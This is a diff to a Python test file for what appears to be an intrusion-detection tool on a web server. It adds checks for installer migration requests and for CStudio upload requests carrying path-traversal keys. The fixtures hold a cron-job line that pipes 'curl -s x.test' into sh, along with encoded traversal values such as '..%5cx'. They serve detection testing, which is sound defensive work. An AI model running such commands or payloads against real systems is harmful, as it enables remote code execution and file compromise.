@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import os
 import time
+from dataclasses import replace
 from functools import partial
 from unittest import mock
 
@@ -128,6 +129,16 @@ def admin(**values):
         (request('"POST /img/logo.php HTTP/1.1"'), "a PHP file among assets"),
         (request('"GET /x/y.pht HTTP/1.1"'), "a rare kind"),
         (request('"POST /main/install/index.php HTTP/1.1"'), "the installer"),
+        (request('"GET /main/install/migrate.php HTTP/1.1"'), "the installer, after the installation"),
+        *(
+            (
+                request(
+                    f'"POST /plugin/CStudio/editor/import-project/inc/big-upload.php?action=upload&key={key} HTTP/1.1"'
+                ),
+                "an upload of CStudio under a name that leaves its directory",
+            )
+            for key in ("..%5cx", "%2E%2e/x", "a%2Fb", "x.phtml")
+        ),
         (
             lambda host: host.jobs.append(Job("/var/spool/cron/crontabs/www-data:1", "* * * * * curl -s x.test | sh")),
             "a cron job of the web user",
@@ -179,6 +190,25 @@ def test_signs(host, plant, words):
     assert finding.status == "fail"
     assert words in finding.evidence
     assert sum(words in sign for sign in monitoring.signs(host.look())) == 1
+
+
+@pytest.mark.parametrize(
+    ("version", "key", "told"),
+    [("2.0.0", "f3a9", True), ("2.0.4", "f3a9", False), ("", "f3a9", False), ("2.0.4", "../../x", True)],
+)
+def test_an_upload_of_cstudio_is_a_sign_where_it_needed_no_login_or_names_a_path(host, version, key, told):
+    request(f'"POST /plugin/CStudio/editor/import-project/inc/big-upload.php?action=upload&key={key} HTTP/1.1"')(host)
+    look = host.look()
+    look.site = replace(look.site, version=version)
+    assert any("CStudio" in sign for sign in trace(look).signs) is told
+
+
+@pytest.mark.parametrize(("days", "told"), [(1, False), (3, True)])
+def test_a_migration_long_after_the_update_is_a_sign(host, days, told):
+    host.file("version.php", "<?php return [];")
+    log = host.file("var/log/migration-to-2.0.log", "done")
+    os.utime(log, (time.time() + days * 86400,) * 2)
+    assert any("the installer migrated 3 days after" in sign for sign in trace(host.look()).signs) is told
 
 
 @pytest.mark.parametrize(
